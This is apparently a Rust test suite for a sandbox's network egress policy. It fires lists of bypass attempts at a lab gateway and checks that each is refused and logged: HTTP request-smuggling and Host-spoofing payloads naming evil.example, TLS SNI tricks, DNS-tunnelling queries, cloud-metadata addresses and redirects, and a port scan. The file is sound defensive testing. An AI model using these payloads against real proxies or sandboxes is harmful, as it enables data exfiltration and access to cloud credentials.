//! Attempts to get past the policy. Each must be refused or come to nothing, leave its trace in the log, and
//! bring not one byte of the loot to any server.

use crate::dns::{Resolver, resolved};
use crate::hellos::{client_hello, record, wrapped};
use crate::lab::{
    self, GATEWAY, GATEWAY6, Lab, METADATA, OTHER, PATIENCE, PRIVATE, SERVER, SERVER6, THIRD, connect,
};
use crate::udp::ask;
use a3s_box_core::{NetDefault, NetSubject, Verdict};
use std::io::{ErrorKind, Read, Write};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// What must not get out.
const LOOT: &str = "the-loot-of-the-box";

/// Servers that swallow what they are sent and answer nothing, and all that they were sent.
struct Sink(Arc<Mutex<Vec<u8>>>);

impl Sink {
    fn start(ports: &[u16]) -> Self {
        let all = Arc::new(Mutex::new(Vec::new()));
        for address in [SERVER, OTHER, THIRD, PRIVATE, METADATA, "[2001:db8::1]", "127.0.0.1"] {
            for port in ports {
                let all = Arc::clone(&all);
                lab::serve(&format!("{address}:{port}"), move |mut stream| {
                    let mut buffer = [0; 4096];
                    while let Ok(count @ 1..) = stream.read(&mut buffer) {
                        all.lock().unwrap().extend_from_slice(&buffer[..count]);
                    }
                });
            }
        }
        Self(all)
    }

    fn holds(&self, text: &str) -> bool {
        self.0.lock().unwrap().windows(text.len()).any(|w| w == text.as_bytes())
    }
}

/// A box that may reach three names and nothing else, with its resolver and the world around it.
fn prison(lab: &mut Lab) -> (Sink, Resolver) {
    let records = [
        "good.example/198.51.100.1",
        "shared.example/198.51.100.1",
        "db.example/198.51.100.1",
        "evil.example/198.51.100.2",
        "a.wild.example/203.0.113.7",
        "rebind.wild.example/10.20.30.40",
        "meta.wild.example/169.254.169.254",
        "self.wild.example/127.0.0.1",
    ];
    let resolver = Resolver::start(lab, &records, &[]);
    let sink = Sink::start(&[22, 53, 80, 81, 443, 853, 5432, 8080]);
    let rules =
        ["allow host good.example:80,443", "allow host *.wild.example:443", "allow host db.example:5432"];
    lab.boot(&resolved(lab::spec(&rules, NetDefault::None)));
    lab.says("getent hosts good.example db.example a.wild.example");
    (sink, resolver)
}

/// Addresses that are typed by hand.
pub(crate) const ADDRESSES: &[&str] = &[
    "198.51.100.2:80",
    "198.51.100.2:443",
    "198.51.100.2:8080",
    "198.51.100.1:81",
    "198.51.100.1:22",
    "198.51.100.1:53",
    "198.51.100.1:853",
    "198.51.100.1:8080",
    "203.0.113.7:80",
    "203.0.113.8:443",
    "[2001:db8::1]:80",
    "[2001:db8::1]:443",
    "10.163.80.1:22",
    "10.163.80.1:80",
    "[fda3:50::1]:80",
    "10.20.30.40:80",
    "192.168.0.1:443",
    "172.16.0.1:443",
    "100.64.0.1:443",
    "169.254.169.254:80",
    "100.100.100.200:80",
    "168.63.129.16:80",
    "[fd00:ec2::254]:80",
    "[64:ff9b::c633:6402]:80",
    "[64:ff9b::a9fe:a9fe]:80",
    "[2002:c633:6402::1]:80",
    "[2001:0:c633:6402::1]:80",
    "[fd12:3456::1]:80",
];

lab_test!(addresses_typed_by_hand_are_refused, |lab| {
    let (sink, _resolver) = prison(lab);
    for to in ADDRESSES {
        let address = to.parse().unwrap();
        let error =
            lab.inside(0, || connect(address).and_then(|mut s| s.write_all(LOOT.as_bytes())).unwrap_err());
        assert_eq!(error.kind(), ErrorKind::ConnectionRefused, "{to}: {error}");
        let record = lab.recorded(to, |r| {
            r.subject == NetSubject::Tcp && r.address == Some(address.ip()) && r.port == Some(address.port())
        });
        assert_eq!(record.verdict, Verdict::Deny, "{to}");
    }
    assert!(!sink.holds(LOOT));
});

lab_test!(a_redirect_to_the_metadata_address_leads_nowhere, |lab| {
    let _resolver = Resolver::start(lab, &["good.example/198.51.100.1"], &[]);
    lab::serve(&format!("{SERVER}:80"), |mut stream| {
        let _ = stream.read(&mut [0; 4096]);
        let _ = write!(
            stream,
            "HTTP/1.1 302 Found\r\nLocation: http://{METADATA}/latest/\r\nContent-Length: 0\r\n\r\n"
        );
    });
    lab::serve_http(&format!("{METADATA}:80"), "credentials");
    for (index, default) in [NetDefault::None, NetDefault::Internet].into_iter().enumerate() {
        lab.boot(&resolved(lab::spec(&["allow host good.example:80"], default)));
        let script = "curl -sSL --max-time 10 http://good.example/";
        let output = lab.guest(index, "sh").args(["-c", script]).output().unwrap();
        let text = String::from_utf8_lossy(&output.stderr);
        assert!(!output.status.success() && text.contains("(7)"), "{text}");
        // The reset is out before it is written down.
        lab.eventually("the record", || {
            lab.records_of(index).iter().any(|r| r.rule == "built-in: cloud metadata")
        });
    }
});

/// Things said to port 80 of the allowed name, whose address was asked for. `{}` is the loot.
pub(crate) const HTTP: &[(&str, &str)] = &[
    ("another host", "GET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
    ("a host of the same address", "GET /{} HTTP/1.1\r\nHost: shared.example\r\n\r\n"),
    ("no host", "GET /{} HTTP/1.1\r\n\r\n"),
    ("no host in 1.0", "GET /{} HTTP/1.0\r\n\r\n"),
    ("two hosts", "GET /{} HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n"),
    ("an absolute target", "GET http://evil.example/{} HTTP/1.1\r\nHost: good.example\r\n\r\n"),
    ("a user before the host", "GET /{} HTTP/1.1\r\nHost: good.example@evil.example\r\n\r\n"),
    (
        "a user in the target",
        "GET http://good.example@evil.example/{} HTTP/1.1\r\nHost: good.example\r\n\r\n",
    ),
    ("connect", "CONNECT evil.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n{}"),
    ("a name that begins right", "GET /{} HTTP/1.1\r\nHost: good.example.evil.example\r\n\r\n"),
    ("a name that ends right", "GET /{} HTTP/1.1\r\nHost: notgood.example\r\n\r\n"),
    ("an address", "GET /{} HTTP/1.1\r\nHost: 198.51.100.1\r\n\r\n"),
    ("an IPv6 address", "GET /{} HTTP/1.1\r\nHost: [::1]\r\n\r\n"),
    ("a folded header", "GET /{} HTTP/1.1\r\nHost: good.example\r\n evil.example\r\n\r\n"),
    ("line feeds alone", "GET /{} HTTP/1.1\nHost: evil.example\n\n"),
    (
        "a carriage return inside",
        "GET /{} HTTP/1.1\r\nX: a\rHost: evil.example\r\nHost: good.example\r\n\r\n",
    ),
    ("an empty line first", "\r\nGET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
    ("a space before the colon", "GET /{} HTTP/1.1\r\nHost : evil.example\r\nHost: good.example\r\n\r\n"),
    ("a tab in the request line", "GET\t/{}\tHTTP/1.1\r\nHost: good.example\r\n\r\n"),
    ("a small version", "GET /{} http/1.1\r\nHost: evil.example\r\n\r\n"),
    ("HTTP/2 in clear", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{}"),
    ("HTTP/0.9", "GET /{}\r\n"),
    ("a null byte", "GET /{} HTTP/1.1\r\nHost: good.example\0.evil.example\r\n\r\n"),
    ("another protocol", "SSH-2.0-{}\r\n"),
    ("binary", "\u{1}\u{2}\u{3}{}"),
    (
        "a second request",
        "GET / HTTP/1.1\r\nHost: good.example\r\n\r\nGET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ),
    (
        "a request behind a body",
        "POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 3\r\n\r\nabcGET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ),
    (
        "two lengths",
        "POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 99\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ),
    (
        "the length twice",
        "POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 0\r\nContent-Length: 200\r\n\r\nGET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ),
    (
        "an odd encoding",
        "POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{}",
    ),
    (
        "a request behind chunks",
        "POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n\r\nGET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ),
    (
        "a chunk that ends oddly",
        "POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\nGET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ),
    (
        "an upgrade that the server never made",
        "GET / HTTP/1.1\r\nHost: good.example\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\nGET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ),
];

/// Says `bytes` to `to`, and whether the connection is cut off for it.
fn cut_off(lab: &Lab, to: &str, bytes: &[u8]) -> bool {
    cut_off_within(lab, to, bytes, PATIENCE)
}

/// Says `bytes` to `to`, which must not be cut off, at least not for a second.
fn passes(lab: &Lab, to: &str, bytes: &[u8]) {
    assert!(!cut_off_within(lab, to, bytes, Duration::from_secs(1)), "{to} was cut off");
}

fn cut_off_within(lab: &Lab, to: &str, bytes: &[u8], patience: Duration) -> bool {
    lab.inside(0, || {
        let mut stream = connect(to.parse().unwrap()).unwrap();
        // Byte by byte at first, as somebody does who hopes that nobody puts it together.
        let (slow, fast) = bytes.split_at(bytes.len().min(8));
        stream.set_nodelay(true).unwrap();
        let said = slow.iter().try_for_each(|b| stream.write_all(&[*b])).and_then(|()| stream.write_all(fast));
        stream.set_read_timeout(Some(patience)).unwrap();
        let heard = said.and_then(|()| stream.read(&mut [0; 16]));
        matches!(heard, Err(error) if matches!(error.kind(), ErrorKind::ConnectionReset | ErrorKind::BrokenPipe))
    })
}

lab_test!(http_for_other_hosts_is_cut_off, |lab| {
    let (sink, _resolver) = prison(lab);
    for (what, text) in HTTP {
        let before = refusals(lab);
        let waits = what.contains("server never made");
        let patience = if waits { Duration::from_secs(1) } else { PATIENCE };
        let cut = cut_off_within(lab, &format!("{SERVER}:80"), text.replace("{}", LOOT).as_bytes(), patience);
        assert!(cut || waits, "{what} went through");
        assert!(!sink.holds(LOOT), "{what} brought the loot out");
        if !waits {
            lab.eventually(what, || refusals(lab) > before);
        }
    }
    let long = format!("GET / HTTP/1.1\r\nX: {}\r\nHost: good.example\r\n\r\n", "a".repeat(40_000));
    assert!(cut_off(lab, &format!("{SERVER}:80"), long.as_bytes()), "a long head went through");
    // What is allowed does get through, or all of the above means nothing.
    let fine = "POST /fine HTTP/1.1\r\nHost: GOOD.example:80\r\nContent-Length: 2\r\n\r\nokGET http://good.example/fine2 HTTP/1.1\r\nHost: good.example.\r\n\r\n";
    passes(lab, &format!("{SERVER}:80"), fine.as_bytes());
    lab.eventually("fine2", || sink.holds("fine2"));
    // On a port of its own a name may speak as it likes, but not HTTP or TLS for others.
    let to = format!("{SERVER}:5432");
    passes(lab, &to, b"\0\0\0\x08\x04\xd2\x16\x2ffine3");
    lab.eventually("fine3", || sink.holds("fine3"));
    passes(lab, &to, b"SSH-2.0-fine4\r\n");
    lab.eventually("fine4", || sink.holds("fine4"));
    let http = format!("GET /{LOOT} HTTP/1.1\r\nHost: evil.example\r\n\r\n");
    assert!(cut_off(lab, &to, http.as_bytes()));
    assert!(cut_off(lab, &to, &client_hello(Some("evil.example"), &[])));
    assert!(!sink.holds(LOOT));
});

fn refusals(lab: &Lab) -> usize {
    lab.records().iter().filter(|r| r.verdict == Verdict::Deny).count()
}

/// TLS hellos to port 443 of the allowed name.
pub(crate) fn hellos() -> Vec<(&'static str, Vec<u8>)> {
    let evil = client_hello(Some("evil.example"), &[]);
    let good = client_hello(Some("good.example"), &[]);
    let body = &evil[5..];
    let two_names = {
        let mut list = Vec::new();
        for name in ["good.example", "evil.example"] {
            list.push(0);
            list.extend_from_slice(&wrapped(name.as_bytes()));
        }
        client_hello(None, &[(0, wrapped(&list))])
    };
    let name = |text: &str| {
        let mut entry = vec![0];
        entry.extend_from_slice(&wrapped(text.as_bytes()));
        wrapped(&entry)
    };
    let mut double = good[5..].to_vec();
    double.extend_from_slice(body);
    vec![
        ("another name", evil.clone()),
        ("a name of the same address", client_hello(Some("shared.example"), &[])),
        ("no name", client_hello(None, &[])),
        ("an allowed name of another address", client_hello(Some("a.wild.example"), &[])),
        ("an allowed name that was never asked for", client_hello(Some("b.wild.example"), &[])),
        ("the name above the wildcard", client_hello(Some("wild.example"), &[])),
        ("an empty name", client_hello(Some(""), &[])),
        ("an address as name", client_hello(Some("198.51.100.1"), &[])),
        ("a name with a null byte", client_hello(Some("good.example\0.evil.example"), &[])),
        ("two names in a list", two_names),
        ("two lists", client_hello(Some("good.example"), &[(0, name("evil.example"))])),
        ("an encrypted hello", client_hello(Some("good.example"), &[(0xfe0d, vec![0; 200])])),
        ("an encrypted name", client_hello(Some("good.example"), &[(0xffce, vec![0; 200])])),
        ("a hello in many records", body.chunks(7).flat_map(|part| record(22, part)).collect()),
        ("two hellos in a record", record(22, &double)),
        ("two hellos one after the other", [good.clone(), evil.clone()].concat()),
        ("a change of cipher between them", [good.clone(), record(20, &[1]), evil].concat()),
        ("another handshake message", record(22, &[2, 0, 0, 4, 3, 3, 0, 0])),
        ("a record of another kind", record(23, LOOT.as_bytes())),
        ("an empty record", record(22, &[])),
        ("a hello of the old kind", [&[0x80, 0x2e, 1, 0, 2][..], LOOT.as_bytes()].concat()),
        ("a hello without end", record(22, &[1, 0xff, 0xff, 0xff, 3, 3])),
        ("HTTP for another host", b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n".to_vec()),
    ]
}

lab_test!(tls_for_other_names_is_cut_off, |lab| {
    let (sink, _resolver) = prison(lab);
    for (what, bytes) in hellos() {
        let before = refusals(lab);
        let cut = cut_off(lab, &format!("{SERVER}:443"), &bytes);
        assert!(cut, "{what} went through");
        assert!(!sink.holds("evil.example") && !sink.holds(LOOT), "{what} got out");
        lab.eventually(what, || refusals(lab) > before);
    }
    let after = [client_hello(Some("good.example"), &[]), record(20, &[1]), record(23, b"fine5")].concat();
    passes(lab, &format!("{SERVER}:443"), &after);
    lab.eventually("fine5", || sink.holds("fine5"));
    let hello = client_hello(Some("a.wild.example"), &[]);
    passes(lab, &format!("{THIRD}:443"), &hello);
    lab.eventually("a.wild.example", || sink.holds("a.wild.example"));
    assert!(lab.records().iter().any(|r| r.reason == "an encrypted client hello hides the name"));
});

/// Queries that must not be answered with anything of use.
pub(crate) const QUERIES: &[(&str, &str)] = &[
    ("evil.example", "REFUSED"),
    ("good.example.evil.example", "REFUSED"),
    ("xgood.example", "REFUSED"),
    ("wild.example", "REFUSED"),
    ("mzxw6ytboi2dknrwgm3tqojqgezdgnbvgy3tqojq.nbswy3dpeb3w64tmmqfa.evil.example", "REFUSED"),
    ("-t TXT evil.example", "REFUSED"),
    ("-t NS .", "REFUSED"),
    ("-x 198.51.100.2", "REFUSED"),
    ("-t AXFR good.example", "failed"),
    ("-t ANY good.example", "NOTIMP"),
    ("-c CH -t TXT version.bind", "FORMERR"),
    ("rebind.wild.example", "REFUSED"),
    ("meta.wild.example", "REFUSED"),
    ("self.wild.example", "REFUSED"),
    ("host.a3s.internal", "REFUSED"),
    ("-t HTTPS good.example", "ANSWER: 0"),
    ("-t SVCB good.example", "ANSWER: 0"),
    ("+opcode=UPDATE good.example", "FORMERR"),
];

lab_test!(names_off_the_list_and_other_resolvers_give_nothing_away, |lab| {
    let (_sink, _resolver) = prison(lab);
    for (query, expected) in QUERIES {
        let text = lab.shell(&format!("dig +tries=1 +time=5 {query} 2>&1")).1;
        assert!(text.contains(expected), "{query}: {text}");
    }
    let asked = std::fs::read_to_string(lab.dir().join("dnsmasq.log")).unwrap();
    assert!(!asked.contains("evil") && !asked.contains("nbswy3dpeb3w64tmmqfa"), "{asked}");
    lab.inside(0, || {
        for to in
            [format!("{SERVER}:53"), format!("{OTHER}:53"), format!("{SERVER}:853"), format!("{SERVER}:443")]
        {
            // Over UDP, QUIC among it, a name's allowance does not hold.
            assert_eq!(
                ask(to.parse().unwrap(), LOOT.as_bytes()).unwrap_err().kind(),
                ErrorKind::HostUnreachable,
                "{to}"
            );
        }
        let error = ask(format!("[{SERVER6}]:53").parse().unwrap(), b"x").unwrap_err();
        assert_eq!(error.kind(), ErrorKind::PermissionDenied);
    });
    for address in [SERVER, PRIVATE, METADATA] {
        assert!(!lab.shell(&format!("ping -c1 -W3 {address}")).0, "{address}");
    }
    for gateway in [GATEWAY, GATEWAY6] {
        assert!(lab.shell(&format!("ping -c1 -W3 {gateway}")).0);
    }
});

lab_test!(the_internet_is_open_but_for_what_is_denied, |lab| {
    let records = ["bad.example/198.51.100.2", "www.example/198.51.100.2", "api.bad.example/198.51.100.2"];
    let _resolver = Resolver::start(lab, &records, &[]);
    let sink = Sink::start(&[80, 443, 53, 8080]);
    let rules = [
        "deny host bad.example",
        "deny host *.bad.example",
        "deny net 203.0.113.0/24",
        "allow net 10.20.30.40:8080",
    ];
    lab.boot(&resolved(lab::spec(&rules, NetDefault::Internet)));
    assert!(lab.says("dig bad.example").contains("REFUSED"));
    lab.says("getent hosts www.example");
    // The name that is denied is denied by whatever address; others at the same address are not.
    for host in ["bad.example", "api.bad.example"] {
        let text = format!("GET /{LOOT} HTTP/1.1\r\nHost: {host}\r\n\r\n");
        assert!(cut_off(lab, &format!("{OTHER}:80"), text.as_bytes()), "{host}");
        assert!(cut_off(lab, &format!("{OTHER}:443"), &client_hello(Some(host), &[])), "{host}");
    }
    passes(lab, &format!("{OTHER}:80"), b"GET /fine HTTP/1.1\r\nHost: www.example\r\n\r\n");
    lab.eventually("fine", || sink.holds("/fine"));
    assert!(!sink.holds(LOOT) && !sink.holds("bad.example"));
    let kind = |to: &str| lab.inside(0, || connect(to.parse().unwrap()).map_err(|e| e.kind()).err());
    assert_eq!(kind("203.0.113.7:80"), Some(ErrorKind::ConnectionRefused));
    assert_eq!(kind("10.20.30.40:8080"), None);
    assert_eq!(kind("10.20.30.40:80"), Some(ErrorKind::ConnectionRefused));
    assert_eq!(kind(&format!("{SERVER}:53")), Some(ErrorKind::ConnectionRefused));
});

lab_test!(a_port_scan_finds_nothing_that_is_not_allowed, |lab| {
    let (sink, _resolver) = prison(lab);
    let kinds: Vec<(u16, Option<ErrorKind>)> = lab.inside(0, || {
        let ports = (1..=300).chain([443, 5432, 8080]);
        ports
            .map(|port| (port, connect(format!("{SERVER}:{port}").parse().unwrap()).err().map(|e| e.kind())))
            .collect()
    });
    let open: Vec<u16> = kinds.iter().filter(|(_, kind)| kind.is_none()).map(|(port, _)| *port).collect();
    // The ports of names that are at this address, which say nothing until they are told whom they are for.
    assert_eq!(open, [80, 443, 5432]);
    assert!(kinds.iter().all(|(_, kind)| kind.is_none_or(|kind| kind == ErrorKind::ConnectionRefused)));
    lab.eventually("every try in the log", || {
        let records = lab.records();
        let of = |port: u16| records.iter().any(|r| r.port == Some(port) && r.verdict == Verdict::Deny);
        kinds.iter().filter(|(_, kind)| kind.is_some()).all(|(port, _)| of(*port))
    });
    assert!(!sink.holds(LOOT));
});

#[test]
fn the_policy_explains_itself() {
    let rules = ["allow host good.example:443", "deny net 198.51.100.0/24:22"];
    let policy = lab::spec(&rules, NetDefault::None).policy;
    let explain = |host: &str, addresses: &[&str], port| {
        let question = a3s_box_net::Question {
            host: host.into(),
            addresses: addresses.iter().map(|a| a.parse().unwrap()).collect(),
            port,
            transport: a3s_box_core::Transport::Tcp,
        };
        let answers = a3s_box_net::explain(&policy, &[], &question);
        let text: Vec<String> =
            answers.into_iter().map(|a| format!("{}: {}", a.decision.rule, a.decision.reason)).collect();
        text.join("; ")
    };
    assert_eq!(explain("good.example", &[SERVER], 443), "allow host good.example:443: the name is allowed");
    assert_eq!(explain("good.example", &[SERVER], 22), "deny net 198.51.100.0/24:22: the network is denied");
    assert_eq!(explain("evil.example", &[OTHER], 443), "default: none: no rule allows the name evil.example");
    assert_eq!(
        explain("good.example", &[PRIVATE], 443),
        "built-in: private range: good.example leads to 10.20.30.40, which is not the internet; allow it with --allow-net 10.20.30.40"
    );
    assert_eq!(
        explain(METADATA, &[], 80),
        "built-in: cloud metadata: 169.254.169.254 is not the internet; allow it with --allow-net"
    );
    assert_eq!(explain(GATEWAY, &[], 80), "built-in: host: this is the host; allow host.a3s.internal:80");
}

#[test]
fn there_are_attempts_enough() {
    let frames = crate::frames::attempts().len();
    let all = ADDRESSES.len() + HTTP.len() + hellos().len() + QUERIES.len() + frames;
    assert!(all >= 60 && frames >= 20, "{all}");
}
